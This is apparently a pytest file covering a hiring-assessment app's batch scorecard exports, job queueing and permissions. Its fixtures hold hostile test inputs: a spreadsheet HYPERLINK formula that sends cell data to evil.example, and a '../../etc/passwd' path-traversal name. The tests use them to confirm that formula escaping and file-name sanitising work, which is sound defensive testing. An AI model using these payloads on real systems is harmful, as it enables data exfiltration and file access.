"""Batch exports: CSV, combined PDF, ZIP; background jobs (thread and RQ); who may have them."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import pytest

from assessment import create_app
from assessment.database import write_transaction
from assessment.extensions import db, limiter
from assessment.models import Position, utcnow
from assessment.scorecard import batch
from assessment.scorecard.export import candidate_ids_for, export_scorecards, safe_cell
from assessment.scorecard.export_commands import export_scorecards_command, export_worker_command
from assessment.scorecard.export_views import bp as exports_bp
from assessment.scorecard.job_model import ExportFile, ExportJob
from tests.conftest import _empty_tables, csrf_token
from tests.web.helpers import pdf_text, rate_every_question, read_csv, wait_done

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def _exports_app(_app, app_settings):
    """The app with the exports blueprint (a second app on the same database until the
    factory registers it)."""
    if "exports" in _app.blueprints:
        yield _app
    else:
        app = create_app(app_settings["overrides"], instance_path=app_settings["instance_path"])
        app.register_blueprint(exports_bp)
        yield app
    batch.close_pool()  # the warm worker processes, if a test started them


@pytest.fixture
def app(_exports_app):
    with _exports_app.app_context():
        _empty_tables()
        _exports_app.extensions.pop("assessment_has_admin", None)
        limiter.reset()
        yield _exports_app
        db.session.remove()


def rated(make_candidate, make_interview, interviewer, bank, position=None, value=4, **kw):
    """A candidate whose interview by `interviewer` is submitted, every question at `value`."""
    candidate = make_candidate(position, **kw) if position else make_candidate(**kw)
    interview = make_interview(candidate, interviewer)
    rate_every_question(interview, value, lambda qid: f"{candidate.name} answered {qid} well")
    return candidate


@pytest.fixture
def position_of_three(users, make_position, make_candidate, make_interview, bank):
    """Three rated candidates (one with a hostile name) and one with no evidence at all."""
    position = make_position()
    people = [
        rated(
            make_candidate, make_interview, users["manager"], bank, position, 4, name="Ada Lovelace"
        ),
        rated(make_candidate, make_interview, users["manager"], bank, position, 3, name=HYPERLINK),
        rated(
            make_candidate,
            make_interview,
            users["manager"],
            bank,
            position,
            5,
            name="../../etc/passwd",
        ),
    ]
    empty = make_candidate(position, name="Nobody Yet", external_id="@SUM(A1)")
    return position, people, empty


# --- files ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", HYPERLINK])
def test_a_cell_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("Ada") == "Ada" and safe_cell(None) == ""


def test_csv_one_row_per_candidate_scores_as_numbers(app, position_of_three, tmp_path):
    position, (ada, hyper, passwd), empty = position_of_three
    result = export_scorecards(position.id, "csv", tmp_path / "s.csv")
    rows = read_csv((tmp_path / "s.csv").read_bytes())
    assert result.exported == 4 and result.skipped == 0
    by_id = {int(r["candidate_id"]): r for r in rows}
    assert list(by_id) == candidate_ids_for(position.id)  # the position page's order
    assert set(by_id) == {ada.id, hyper.id, passwd.id, empty.id}
    header = list(rows[0])
    assert header[:4] == ["candidate_id", "name", "email", "external_id"]
    assert header[-5:] == ["overall", "band_low", "band_high", "advisory_label", "flags"]
    assert len(header) == 4 + 3 * len(position.weights) + 5
    assert {f"{c}_{m}" for c in position.weights for m in ("interview", "scenario", "self")} <= set(
        header
    )
    assert by_id[ada.id]["lead_interview"] == "75.0" and by_id[hyper.id]["lead_interview"] == "50.0"
    assert by_id[ada.id]["lead_scenario"] == "" and by_id[ada.id]["lead_self"] == ""
    assert float(by_id[ada.id]["band_low"]) < 75 < float(by_id[ada.id]["band_high"])
    assert by_id[ada.id]["advisory_label"] and by_id[empty.id]["overall"] == ""
    assert by_id[hyper.id]["name"] == "'" + HYPERLINK  # shown as text, never run
    assert by_id[empty.id]["external_id"] == "'@SUM(A1)"


def test_combined_pdf_has_every_selected_candidate(app, position_of_three, tmp_path):
    position, (ada, hyper, passwd), _ = position_of_three
    out = tmp_path / "all.pdf"
    export_scorecards(position.id, "pdf", out, candidate_ids=[ada.id, passwd.id])
    text = pdf_text(out.read_bytes())
    assert "Ada Lovelace" in text and "../../etc/passwd" in text
    assert "answered" in text and "HYPERLINK" not in text  # the notes are in; unselected out
    assert not batch.parts_folder(out).exists()  # single PDFs cleaned up


def test_zip_has_one_pdf_per_candidate_with_safe_names(app, position_of_three, tmp_path):
    position, people, empty = position_of_three
    out = tmp_path / "all.zip"
    result = export_scorecards(position.id, "zip", out)
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
        assert sorted(names) == sorted(
            [
                f"ada-lovelace-{people[0].id}.pdf",
                f"hyperlink-http-evil-example-a1-x-{people[1].id}.pdf",
                f"etc-passwd-{people[2].id}.pdf",
                f"nobody-yet-{empty.id}.pdf",
            ]
        )
        for name in names:
            data = archive.read(name)
            assert data.startswith(b"%PDF")
        assert "Ada Lovelace" in pdf_text(archive.read(f"ada-lovelace-{people[0].id}.pdf"))
    assert result.exported == 4


def test_sealed_candidates_are_left_out_for_a_panellist(
    app, users, make_candidate, make_interview, bank, tmp_path
):
    seen = rated(make_candidate, make_interview, users["manager"], bank, name="Open Book")
    position = db.session.get(Position, seen.position_id)
    sealed = make_candidate(position, name="Sealed Case")
    make_interview(sealed, users["hr"])  # HR sits on this panel and has not submitted
    result = export_scorecards(position.id, "csv", tmp_path / "s.csv", viewer_id=users["hr"].id)
    assert result.skipped == 1
    assert [r["name"] for r in read_csv((tmp_path / "s.csv").read_bytes())] == ["Open Book"]


def test_the_cli_writes_each_format(app, runner, position_of_three, tmp_path, monkeypatch):
    position, people, _ = position_of_three
    monkeypatch.setattr(batch, "POOL_MIN", 2)  # render in two worker processes, as at scale
    for kind in ("pdf", "zip", "csv"):
        out = tmp_path / f"out.{kind}"
        workers = "2" if kind == "pdf" else "1"  # the pool once: it takes a second to start
        args = ["--position", str(position.id), "-o", str(out), "--workers", workers]
        result = runner.invoke(export_scorecards_command, args)
        assert result.exit_code == 0, result.output
        assert out.stat().st_size > 0 and f"({kind})" in result.output
    assert "Ada Lovelace" in pdf_text((tmp_path / "out.pdf").read_bytes())
    assert len(zipfile.ZipFile(tmp_path / "out.zip").namelist()) == 4
    only = tmp_path / "two.csv"
    ids = f"{people[0].id},{people[2].id}"
    args = ["--position", str(position.id), "-o", str(only), "--format", "csv", "--candidates", ids]
    assert runner.invoke(export_scorecards_command, args).exit_code == 0
    assert len(read_csv(only.read_bytes())) == 2
    bad = runner.invoke(export_scorecards_command, ["--position", "999", "-o", str(only)])
    assert bad.exit_code == 1 and "no position 999" in bad.output


# --- jobs and pages -------------------------------------------------------------------


def start(client, position, kind, picks=(), confirm_all=True):
    token = csrf_token(client.get(f"/positions/{position.id}"))
    data = {"csrf_token": token, "kind": kind, "paper": "A4", "candidates": [str(p) for p in picks]}
    if confirm_all and not picks:
        data["confirm_all"] = "y"  # as the confirmation page sends it
    return client.post(f"/positions/{position.id}/exports", data=data)


def test_a_thread_job_reaches_done_with_a_download(client, login, users, position_of_three):
    position, (ada, hyper, passwd), _ = position_of_three
    login(users["hr"])
    page = client.get(f"/positions/{position.id}").get_data(as_text=True)
    assert "Combined PDF" in page and f'value="{ada.id}" form="export-form"' in page
    response = start(client, position, "pdf", [ada.id, hyper.id])
    assert response.status_code == 303
    url = response.headers["Location"]
    state = wait_done(client, url)
    assert state["status"] == "done" and state["done"] == state["total"] == 2
    page = client.get(url).get_data(as_text=True)
    assert "2 of 2" in page and state["download"] in page and "Download the PDF" in page
    file = client.get(state["download"])
    assert file.status_code == 200 and file.mimetype == "application/pdf"
    assert "attachment" in file.headers["Content-Disposition"]
    text = pdf_text(file.data)
    assert "Ada Lovelace" in text and "HYPERLINK" in text and "passwd" not in text


def test_the_csv_job_the_list_and_old_files_deleted(app, client, login, users, position_of_three):
    position, *_ = position_of_three
    with write_transaction() as session:  # yesterday's export, with its file
        old = ExportJob(position_id=position.id, kind="csv", status="done", file_name="9.csv")
        old.finished_at = utcnow() - timedelta(hours=25)
        session.add(old)
        session.flush()
        session.add(ExportFile(job_id=old.id, data=b"old", size=3))
    login(users["admin"])
    state = wait_done(client, start(client, position, "csv").headers["Location"])
    rows = read_csv(client.get(state["download"]).data)
    assert len(rows) == 4
    assert db.session.get(ExportJob, old.id).file_name is None
    assert db.session.get(ExportFile, old.id) is None  # the bytes are gone from the database
    assert not list(batch_scratch().glob("*"))  # nothing left on this host's disk
    listing = client.get(f"/positions/{position.id}/exports").get_data(as_text=True)
    assert "CSV" in listing and "done" in listing


def test_a_bad_selection_is_refused_and_nothing_starts(
    client, login, users, position_of_three, make_candidate
):
    position, *_ = position_of_three
    stranger = make_candidate(name="Other Position")  # in a new position
    login(users["hr"])
    response = start(client, position, "pdf", [stranger.id])
    assert response.status_code == 422
    assert f"Not candidates of this position: {stranger.id}" in response.get_data(as_text=True)
    assert start(client, position, "docx").status_code == 422
    assert db.session.scalar(db.select(db.func.count(ExportJob.id))) == 0


def batch_scratch():
    from assessment.scorecard.job_files import scratch_dir

    return scratch_dir()


def add_job(position, owner, **fields) -> ExportJob:
    """An export job of four candidates, stored as a worker would leave it."""
    with write_transaction() as session:
        job = ExportJob(position_id=position.id, total=4, created_by_id=owner.id, **fields)
        session.add(job)
    return job


def test_one_export_at_a_time_and_an_hourly_quota(app, client, login, users, position_of_three):
    position, *_ = position_of_three
    login(users["hr"])
    # an export under way, as a worker would hold it
    busy = add_job(position, users["hr"], kind="pdf", status="running")
    response = start(client, position, "csv")
    assert response.headers["Location"].endswith(f"/exports/{busy.id}")
    with write_transaction():
        db.session.get(ExportJob, busy.id).status = "done"
    app.config["EXPORT_HOURLY_LIMIT"] = 1
    try:
        assert start(client, position, "csv").status_code == 429
    finally:
        app.config.pop("EXPORT_HOURLY_LIMIT")


def test_a_failed_job_says_so(client, login, users, position_of_three, monkeypatch):
    position, *_ = position_of_three

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("assessment.scorecard.jobs.export_scorecards", broken)
    login(users["hr"])
    url = start(client, position, "zip").headers["Location"]
    assert wait_done(client, url)["status"] == "failed"
    page = client.get(url).get_data(as_text=True)
    assert "The export failed. The error has been logged." in page and "disk full" not in page
    assert client.get(url + "/download").status_code == 404


def test_managers_get_403_everywhere_and_others_exports_stay_closed(
    client, login, users, make_user, position_of_three
):
    position, *_ = position_of_three
    job = add_job(position, users["hr"], kind="csv", status="done", file_name="1.csv")
    base = f"/positions/{position.id}/exports"
    urls = [base, f"{base}/{job.id}", f"{base}/{job.id}/download", f"{base}/{job.id}/cancel"]
    login(users["manager"])
    for url in urls[:3]:
        assert client.get(url).status_code == 403
    assert client.post(base, data={"kind": "csv"}).status_code == 403
    assert client.post(urls[3]).status_code == 403
    client.post("/logout", data={"csrf_token": csrf_token(client.get("/"))})
    login(make_user("hr"))  # another HR person: not their export
    for url in urls[1:]:
        if url.endswith("/cancel"):
            response = client.post(url, data={"csrf_token": csrf_token(client.get("/"))})
        else:
            response = client.get(url)
        assert response.status_code == 403 and "made by someone else" in response.get_data(
            as_text=True
        )
    assert client.get(f"/positions/{position.id + 1}/exports/{job.id}").status_code == 404


# --- RQ with a real Redis -------------------------------------------------------------


def test_with_redis_the_export_is_an_rq_job(
    app, client, runner, login, users, position_of_three, redis_url
):
    from redis import Redis
    from rq import Queue

    position, *_ = position_of_three
    app.config["REDIS_URL"] = redis_url
    try:
        login(users["hr"])
        url = start(client, position, "zip").headers["Location"]
        state = client.get(url, headers={"X-Requested-With": "fetch"}).get_json()
        assert state["status"] == "queued" and state["download"] is None
        assert "Waiting for a free worker" in client.get(url).get_data(as_text=True)
        connection = Redis.from_url(redis_url)
        queue = Queue("exports", connection=connection)
        assert queue.count == 1
        result = runner.invoke(export_worker_command, ["--burst"])  # RQ's SimpleWorker
        assert result.exit_code == 0, result.output
        state = client.get(url, headers={"X-Requested-With": "fetch"}).get_json()
        assert state["status"] == "done" and state["done"] == 4
        archive = zipfile.ZipFile(io.BytesIO(client.get(state["download"]).data))
        assert len(archive.namelist()) == 4
    finally:
        app.config["REDIS_URL"] = None
